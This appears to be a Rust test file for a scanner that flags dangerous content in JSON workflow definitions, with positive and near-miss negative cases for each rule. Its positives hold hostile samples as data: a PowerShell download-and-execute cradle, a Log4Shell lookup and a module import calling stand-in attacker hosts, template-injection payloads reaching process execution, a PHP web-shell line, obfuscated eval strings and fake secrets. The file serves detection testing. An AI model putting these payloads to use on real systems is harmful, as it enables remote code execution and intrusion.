//! Every definition rule against tables of positives (rule id and JSON
//! pointer expected) and near-miss negatives (no finding at all).

mod support;

use serde_json::{Value, json};
use support::hits;

fn assert_positive(definition: Value, rule: &str, path: &str) {
    let found = hits(&definition);
    assert!(
        found.iter().any(|(r, p)| r == rule && p == path),
        "expected {rule} at {path} for {definition}, got {found:?}"
    );
}

fn assert_clean(definition: Value) {
    let found = hits(&definition);
    assert!(
        found.is_empty(),
        "expected no findings for {definition}, got {found:?}"
    );
}

fn script(s: &str) -> Value {
    json!({ "steps": [{ "name": "a" }, { "name": "b" }, { "type": "script", "script": s }] })
}

#[test]
fn code_eval_positives() {
    let cases = [
        "eval(input)",
        "const r = eval ('1+1')",
        "window.eval(x)",
        "new Function('return 1')()",
        "const f = Function(body)",
        "setTimeout(\"alert(1)\", 10)",
        "setInterval('tick()', 1000)",
        "setTimeout(`run()`, 0)",
        "exec(\"import os\")",
        "const e = globalThis.eval; e(code)",
        "self['eval'](code)",
        "IEX (New-Object Net.WebClient).DownloadString($u)",
        "Invoke-Expression $payload",
        "vm.runInNewContext(code, sandbox)",
        "new ScriptEngineManager().getEngineByName(\"js\")",
        "(function(){}).constructor('return process')()",
        "EXEC sp_executesql @sql",
    ];
    for case in cases {
        assert_positive(script(case), "code-eval", "/steps/2/script");
    }
}

#[test]
fn code_process_positives() {
    let cases = [
        "require('child_process').exec('ls')",
        "const { execSync } = cp; execSync('id')",
        "spawn('sh', ['-c', cmd])",
        "Runtime.getRuntime().exec(cmd)",
        "new ProcessBuilder(\"sh\").start()",
        "System.Diagnostics.Process.Start(\"cmd.exe\")",
        "Process.Start(psi)",
        "import os\nos.system('id')",
        "os.popen(cmd).read()",
        "import subprocess\nsubprocess.run(['ls'])",
        "<?php system($_GET['c']); ?>",
        "Start-Process calc.exe",
        "CreateObject(\"WScript.Shell\").Run(cmd)",
        "EXEC master..xp_cmdshell 'dir'",
        "Deno.run({ cmd: ['ls'] })",
        "[System.Diagnostics.Process]::Start('calc')",
    ];
    for case in cases {
        assert_positive(script(case), "code-process", "/steps/2/script");
    }
}

#[test]
fn code_module_load_positives() {
    let cases = [
        "const fs = require('fs')",
        "require (\"net\")",
        "const m = await import('https://evil.example/x.js')",
        "__import__('os')",
        "import importlib\nimportlib.import_module(name)",
        "Assembly.Load(bytes)",
        "Class.forName(\"java.lang.Runtime\")",
        "process.binding('spawn_sync')",
        "process.mainModule.require('fs')",
        "global['require']('fs')",
        "System.loadLibrary(\"evil\")",
    ];
    for case in cases {
        assert_positive(script(case), "code-module-load", "/steps/2/script");
    }
}

#[test]
fn prototype_pollution_positives() {
    let cases: Vec<(Value, &str)> = vec![
        (
            json!({ "a": { "__proto__": { "isAdmin": true } } }),
            "/a/__proto__",
        ),
        (
            json!({ "a": { "constructor": { "prototype": { "isAdmin": true } } } }),
            "/a/constructor",
        ),
        (json!({ "path": "__proto__.polluted" }), "/path"),
        (
            json!({ "expr": "x.constructor.constructor('return this')()" }),
            "/expr",
        ),
        (
            json!({ "code": "obj.constructor[\"prototype\"].admin = 1" }),
            "/code",
        ),
        (
            json!({ "code": "Object.prototype.isAdmin = true" }),
            "/code",
        ),
        (json!({ "code": "target['__proto__'] = src" }), "/code"),
        (
            json!({ "list": ["ok", { "k": "a[\"constructor\"][\"prototype\"]" }] }),
            "/list/1/k",
        ),
    ];
    for (definition, path) in cases {
        assert_positive(definition, "prototype-pollution", path);
    }
}

#[test]
fn template_escape_positives() {
    let cases: Vec<(Value, &str)> = vec![
        (
            json!({ "title": "{{constructor.constructor('alert(1)')()}}" }),
            "/title",
        ),
        (
            json!({ "body": "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}" }),
            "/body",
        ),
        (
            json!({ "body": "${T(java.lang.Runtime).getRuntime().exec('id')}" }),
            "/body",
        ),
        (
            json!({ "msg": "#{''.getClass().forName('java.lang.Runtime')}" }),
            "/msg",
        ),
        (json!({ "html": "<%= system('id') %>" }), "/html"),
        (json!({ "html": "<%= `id` %>" }), "/html"),
        (
            json!({ "user-agent": "${jndi:ldap://attacker.example/a}" }),
            "/user-agent",
        ),
        (json!({ "x": "${${lower:j}${lower:n}di:ldap://x/a}" }), "/x"),
        (json!({ "x": "${${::-j}ndi:rmi://x/a}" }), "/x"),
        (
            json!({ "tpl": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}" }),
            "/tpl",
        ),
        (
            json!({ "v": "{{ self.__init__.__globals__.__builtins__ }}" }),
            "/v",
        ),
        (
            json!({ "v": "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}" }),
            "/v",
        ),
    ];
    for (definition, path) in cases {
        assert_positive(definition, "template-escape", path);
    }
}

#[test]
fn code_rule_negatives() {
    let cases = [
        json!({ "description": "Evaluate the request; the evaluation is medieval" }),
        json!({ "fields": [{ "name": "email", "required": true }], "required": ["email"] }),
        json!({ "description": "we never use eval in production" }),
        json!({ "description": "Import the employee records and process them" }),
        json!({ "type": "ProcessDefinition", "processId": "proc-1" }),
        json!({ "script": "function total(items) { return items.reduce((a, b) => a + b.price, 0); }" }),
        json!({ "script": "const m = /(\\d+)-(\\d+)/.exec(input.range); return m ? m[1] : null;" }),
        json!({ "script": "class Order { constructor(id) { this.id = id; } }" }),
        json!({ "script": "const msg = 'Hello, ' + name + '!'; return msg;" }),
        json!({ "script": "return items.map(i => i.sku).join(', ');" }),
        json!({ "note": "The system will retry; the operating system is Linux." }),
        json!({ "script": "import { format } from 'date-fns';\nexport default format(new Date(), 'yyyy');" }),
        json!({ "params": { "name": "{{input.name}}", "tenant": "${trigger.tenantId}" } }),
        json!({ "label": "Requirements", "evaluator": "manager", "retrieval": "fast" }),
        json!({ "url": "https://api.company.com/v1/evaluate?mode=full" }),
        json!({ "text": "Line one\\nLine two\\tTabbed" }),
        json!({ "script": "const t = `Order ${order.id} shipped`;" }),
        json!({ "title": "Asia Pacific region", "currency": "AUD" }),
        // Base64 data: `+iEx/` is no PowerShell (found by the import bench).
        json!({ "logo": "data:image/png;base64,aW0QYflwvQRW+iEx/RcCUwAg7P/zUwLwA9lrgnkJMQOv" }),
        json!({ "blob": "IEX/aW0QYflwvQRW+sE7A7HraYcRFIhqrZWsY0eTJKwE" }),
    ];
    for case in cases {
        assert_clean(case);
    }
}

/// SECURITY.md 22: hidden spellings are caught, with the pointer.
#[test]
fn obfuscated_variants_are_caught() {
    let cases: Vec<(&str, &str)> = vec![
        // serde_json decodes the JSON escape; the scanner sees `eval(`.
        ("\u{0065}val(x)", "code-eval"),
        // A backslash-u escape inside the JavaScript text itself.
        ("\\u0065val(x)", "code-eval"),
        ("\\x65\\x76\\x61\\x6c(x)", "code-eval"),
        ("\\u{65}val(x)", "code-eval"),
        ("\\145val(x)", "code-eval"),
        ("&#101;val(x)", "code-eval"),
        ("window[\"ev\" + \"al\"](x)", "code-eval"),
        ("this['ev'+'al'](x)", "code-eval"),
        ("window['e' /* */ + \"v\" + `al`](x)", "code-eval"),
        ("var f = 'ev' + 'al'; top[f](x)", "code-eval"),
        // A line comment between the pieces (once missed by the prefilter).
        ("var f = 'ev' // split\n + 'al'; top[f](x)", "code-eval"),
        ("var f = 'ev'/**/+/**/'al'; top[f](x)", "code-eval"),
        ("window[\"eval\"](x)", "code-eval"),
        ("globalThis.eval(x)", "code-eval"),
        ("eval /*x*/ (x)", "code-eval"),
        ("eval\n\t(x)", "code-eval"),
        ("eval // c\n(x)", "code-eval"),
        ("String.fromCharCode(101,118,97,108,40,120,41)", "code-eval"),
        (
            "window[String.fromCharCode(0x65,0x76,0x61,0x6c)](x)",
            "code-eval",
        ),
        ("atob('ZXZhbChkb2N1bWVudC5jb29raWUp')", "code-eval"),
        ("Function(atob(\"cmV0dXJuIHByb2Nlc3M=\"))", "code-eval"),
        ("['ev','al'].join('')", "code-eval"),
        ("'lave'.split('').reverse().join('')", "code-eval"),
        ("'ev'.concat('al')", "code-eval"),
        ("require('child_' + 'process')", "code-process"),
        ("require(\"\\x63hild_process\")", "code-process"),
        ("x = 'chi' + 'ld_pro' + 'cess'", "code-process"),
        (
            "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString())",
            "code-process",
        ),
        ("o['__pro' + 'to__'].x = 1", "prototype-pollution"),
        (
            "o[\"con\"+\"structor\"][\"proto\"+\"type\"].x = 1",
            "prototype-pollution",
        ),
        ("I`nv`oke-Ex`pression $p", "code-eval"),
        ("& ('ie' + 'x') $p", "code-eval"),
        ("InVoKe-ExPrEsSiOn $p", "code-eval"),
        ("[char]105+[char]101+[char]120", "code-eval"),
        // powershell -enc "IEX $x" (UTF-16LE)
        ("powershell.exe -NoP -enc SQBFAFgAIAAkAHgA", "code-eval"),
        ("unescape('%65%76%61%6c%28%78%29')", "code-eval"),
        (
            "exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+chr(115))",
            "code-eval",
        ),
    ];
    for (text, rule) in cases {
        assert_positive(script(text), rule, "/steps/2/script");
    }
}

/// SECURITY.md 23: the same placeholder inside executable text is flagged,
/// as a separate parameter it is not.
#[test]
fn template_injection_grading() {
    let positives: Vec<(Value, &str, &str)> = vec![
        (
            json!({ "steps": [{ "script": "echo {{input.x}}" }] }),
            "template-injection",
            "/steps/0/script",
        ),
        (
            json!({ "steps": [{ "script": "return '${trigger.body}';" }] }),
            "template-injection",
            "/steps/0/script",
        ),
        (
            json!({ "query": "SELECT * FROM t WHERE id = '{{request.query.id}}'" }),
            "template-injection",
            "/query",
        ),
        (
            json!({ "sql": "DELETE FROM users WHERE name = '<%= params.name %>'" }),
            "template-injection",
            "/sql",
        ),
        (
            json!({ "run": "echo \"${{ github.event.issue.title }}\"" }),
            "template-injection",
            "/run",
        ),
        (
            json!({ "condition": "{{ input.amount }} > 100" }),
            "template-injection",
            "/condition",
        ),
        (
            json!({ "shellCommand": ["ls", "{{ payload.dir }}"] }),
            "template-injection",
            "/shellCommand/1",
        ),
        (
            json!({ "onLoadScript": "{{input.code}}" }),
            "template-injection",
            "/onLoadScript",
        ),
        (
            json!({ "expression": "{{ steps.fetch.output.id }} == 3" }),
            "template-interpolation",
            "/expression",
        ),
    ];
    for (definition, rule, path) in positives {
        assert_positive(definition, rule, path);
    }
    let negatives = [
        json!({ "steps": [{ "script": "return params.name.toUpperCase();", "params": { "name": "{{input.x}}" } }] }),
        json!({ "params": { "body": "${trigger.body}" }, "command": "send-mail" }),
        json!({ "expression": "{{ env.REGION }} == 'eu'" }),
        json!({ "script": "const s = `Hello ${name}`;" }),
        json!({ "postalCode": "{{input.zip}}", "statusCode": "{{input.code}}" }),
        json!({ "description": "Runs {{input.x}} through the approval" }),
    ];
    for definition in negatives {
        assert_clean(definition);
    }
}

#[test]
fn secret_positives() {
    let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7Zq0v9xYkLr8s3sP2d5Q1wq2bX9Vf3mN0c8aJ5kT1eLr4nHg\n-----END RSA PRIVATE KEY-----";
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    let cases: Vec<(Value, &str, &str)> = vec![
        (json!({ "key": pem }), "secret-private-key", "/key"),
        (
            json!({ "config": { "aws": "AKIAZ7QW3XH2KD9PLM4T" } }),
            "secret-aws-access-key",
            "/config/aws",
        ),
        (
            json!({ "h": ["x", "token ghp_16C7e42F292c6912E7710c838347Ae178B4a"] }),
            "secret-github-token",
            "/h/1",
        ),
        (
            json!({ "slack": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx" }),
            "secret-slack-token",
            "/slack",
        ),
        (
            json!({ "hook": "https://hooks.slack.com/services/T0123ABCD/B0456EFGH/aBcDeFgHiJkLmNoPqRsTuVwX" }),
            "secret-slack-token",
            "/hook",
        ),
        (
            json!({ "headers": { "Authorization": "Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0" } }),
            "secret-bearer-token",
            "/headers/Authorization",
        ),
        (json!({ "session": jwt }), "secret-jwt", "/session"),
        (
            json!({ "dsn": "postgres://admin:S3cr3tP4ss@db.internal:5432/app" }),
            "secret-url-credentials",
            "/dsn",
        ),
        (
            json!({ "connection": { "password": "hunter22" } }),
            "secret-assignment",
            "/connection/password",
        ),
        (
            json!({ "auth": { "apiKey": "sk_live_4eC39HqLyjWDarjtT1zdp7dc" } }),
            "secret-assignment",
            "/auth/apiKey",
        ),
        (
            json!({ "conn": "Server=db;User Id=sa;Password=Pa55w0rd!;" }),
            "secret-assignment",
            "/conn",
        ),
        (
            json!({ "script": "const client = new Client({ password: \"hunter22\" })" }),
            "secret-assignment",
            "/script",
        ),
        (
            json!({ "endpoint": "http://api.partner.com/v1/orders" }),
            "plain-http",
            "/endpoint",
        ),
        (
            json!({ "script": "fetch('http://10.0.0.5:8080/hook')" }),
            "plain-http",
            "/script",
        ),
    ];
    for (definition, rule, path) in cases {
        assert_positive(definition, rule, path);
    }
}

#[test]
fn secret_negatives() {
    let cases = [
        json!({ "connection": { "password": "{{secrets.dbPassword}}", "apiKey": "${API_KEY}", "token": "" } }),
        json!({ "connection": { "password": "********", "clientSecret": "vault:kv/app#secret" } }),
        json!({ "headers": { "Authorization": "Bearer {{connection.token}}" } }),
        json!({ "headers": { "Authorization": "Bearer ${TOKEN}" } }),
        json!({ "aws": "AKIAIOSFODNN7EXAMPLE" }),
        json!({ "image": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJeyJhbGciOiJIUzI1NiJ9" }),
        json!({ "url": "http://localhost:8080/health", "alt": "http://127.0.0.1/x", "v6": "http://[::1]:80/" }),
        json!({ "$schema": "http://json-schema.org/draft-07/schema#", "ns": "http://www.w3.org/2001/XMLSchema" }),
        json!({ "description": "Old docs at http://intranet.company.com/wiki" }),
        json!({ "sample": "http://example.com/callback" }),
        json!({ "tokenUrl": "https://login.company.com/oauth2/token", "maxTokens": 4096, "nextPageToken": "abc123" }),
        json!({ "passwordPolicy": "strong", "fields": [{ "name": "password", "type": "password", "required": true }] }),
        json!({ "dsn": "postgres://admin:{{secrets.pg}}@db.internal:5432/app" }),
        json!({ "text": "Bearer authentication is required for this endpoint" }),
        json!({ "url": "https://api.company.com/v1/orders" }),
    ];
    for case in cases {
        assert_clean(case);
    }
}

#[test]
fn findings_name_the_artifact_and_never_leak_the_secret() {
    let report =
        support::scan_definition(&json!({ "auth": { "password": "hunter22-very-secret" } }));
    let finding = &report.security_findings[0];
    assert_eq!(finding.artifact_id, "proc-1001");
    assert!(
        !finding.message.contains("hunter22-very-secret"),
        "{}",
        finding.message
    );
    assert!(finding.message.contains("hunt"), "{}", finding.message);
}

#[test]
fn pointers_escape_keys() {
    assert_positive(
        json!({ "a/b": { "m~n": "eval(1)" } }),
        "code-eval",
        "/a~1b/m~0n",
    );
    assert_positive(json!(["eval(1)"]), "code-eval", "/0");
    assert_positive(json!("eval(1)"), "code-eval", "");
    assert_positive(json!({ "eval(1)": 1 }), "code-eval", "/eval(1)");
}
